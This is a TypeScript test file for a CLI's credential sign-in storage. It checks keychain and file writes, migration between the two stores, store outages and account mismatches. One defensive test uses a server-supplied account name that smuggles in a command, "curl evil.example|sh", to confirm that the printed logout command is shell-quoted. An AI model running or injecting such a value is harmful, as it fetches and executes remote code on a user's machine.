import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AccountWish } from '../../../src/auth/accounts.ts';
import { credentialReference } from '../../../src/auth/stored-credential.ts';
import { signInSteps } from '../../../src/cli/sign-in/keep.ts';
import type { Credential } from '../../../src/credentials/credential.ts';
import type {
  CredentialStore,
  SecretRecordType,
  StoreName,
} from '../../../src/credentials/credential-store.ts';
import { BitbranchError } from '../../../src/errors.ts';
import { type TestContext, testContext } from '../../helpers/context.ts';
import { oauth2Credential } from '../../helpers/oauth2-signed-in.ts';
import { cloudUrl, credentialFor } from '../../helpers/signed-in.ts';

const unavailable = new BitbranchError('store_unavailable', 'The store is down.');

/** Two stores that tell what is done to them; one of them may be down. */
function twoStores() {
  const events: string[] = [];
  const contexts = { keychain: testContext(), file: testContext() };
  const down = new Set<StoreName>();
  function store(name: StoreName): CredentialStore {
    const inner = contexts[name].storeNamed(name);
    const visit = (what: string) => {
      events.push(`${what} ${name}`);
      if (down.has(name)) throw unavailable;
    };
    return {
      ...inner,
      name,
      description: `the ${name}`,
      async write(reference, record) {
        visit(`write ${reference.type} to`);
        await inner.write(reference, record);
      },
      async remove(reference) {
        visit(`remove ${reference.type} from`);
        return inner.remove(reference);
      },
    };
  }
  const stores = { keychain: store('keychain'), file: store('file') };
  const context: TestContext = { ...testContext(), storeNamed: (name) => stores[name] };
  async function keep(credential: Credential, to: StoreName, account?: AccountWish) {
    const plan = { store: stores[to], maxWaitMs: 0, account };
    await signInSteps(plan, context).keep(credential);
  }
  const known = () => context.currentSettings().hosts[cloudUrl];
  const holds = (name: StoreName) =>
    stores[name].read<SecretRecordType>(credentialReference(cloudUrl, 'maria'));
  return { keep, known, holds, events, down, context };
}

test('credential and consumer are kept before it is remembered that they are', async () => {
  const { keep, known, holds, events } = twoStores();
  await keep(oauth2Credential, 'keychain');
  assert.deepEqual(events, ['write credential to keychain', 'write consumer to keychain']);
  assert.deepEqual(await holds('keychain'), oauth2Credential);
  assert.equal(known()?.consumerKey, 'the-key');
  assert.equal(known()?.accounts['maria']?.store, 'keychain');
});

test('a token has no consumer to keep', async () => {
  const { keep, known, events } = twoStores();
  const { consumer: _, token, ...rest } = credentialFor(cloudUrl);
  const { host, kind, account, expiresAt } = rest;
  await keep({ protocol: 'token', host, kind, account, expiresAt, token }, 'keychain');
  assert.deepEqual(events, ['write credential to keychain']);
  assert.equal(known()?.consumerKey, undefined);
});

test('what could not be kept is not remembered', async () => {
  const { keep, known, down } = twoStores();
  down.add('keychain');
  await assert.rejects(keep(oauth2Credential, 'keychain'), unavailable);
  assert.equal(known(), undefined);
});

for (const [from, to] of [
  ['keychain', 'file'],
  ['file', 'keychain'],
] as const) {
  test(`signing in to the ${to} removes the copy in the ${from}`, async () => {
    const { keep, known, holds, context } = twoStores();
    await keep(oauth2Credential, from);
    await keep(oauth2Credential, to);
    assert.deepEqual([await holds(from), await holds(to)], [null, oauth2Credential]);
    assert.equal(known()?.accounts['maria']?.store, to);
    assert.equal(context.printed.stderr, '');
  });

  test(`a ${from} that is down does not hinder a sign-in to the ${to}`, async () => {
    const { keep, known, holds, down, context } = twoStores();
    await keep(oauth2Credential, from);
    down.add(from);
    await keep(oauth2Credential, to);
    assert.deepEqual(await holds(to), oauth2Credential);
    assert.equal(known()?.accounts['maria']?.store, to);
    assert.equal(
      context.printed.stderr,
      `Note: the ${from} could not be opened and may still hold the old credential. Remove it once it can: bitbranch logout --host ${cloudUrl} --store ${from} --account maria\n`,
    );
  });
}

for (const rule of ['--account', 'BITBRANCH_ACCOUNT'] as const) {
  test(`somebody else than ${rule} asks for is not kept`, async () => {
    const { keep, known, events } = twoStores();
    await assert.rejects(keep(oauth2Credential, 'keychain', { name: 'ada', rule }), {
      code: 'sign_in_refused',
      message: `maria signed in, and ${rule} asks for ada.`,
    });
    assert.deepEqual([known(), events], [undefined, []]);
    await keep(oauth2Credential, 'keychain', { name: 'maria', rule });
    assert.equal(known()?.lastAccount, 'maria');
  });
}

test('a command offered for copying quotes what a server called somebody', async () => {
  const { keep, down, context } = twoStores();
  const account = { name: "x'; curl evil.example|sh #", displayName: null };
  const credential = { ...oauth2Credential, account };
  await keep(credential, 'file');
  down.add('file');
  await keep(credential, 'keychain');
  assert.ok(
    context.printed.stderr.endsWith(` --account 'x'\\''; curl evil.example|sh #'\n`),
    context.printed.stderr,
  );
});
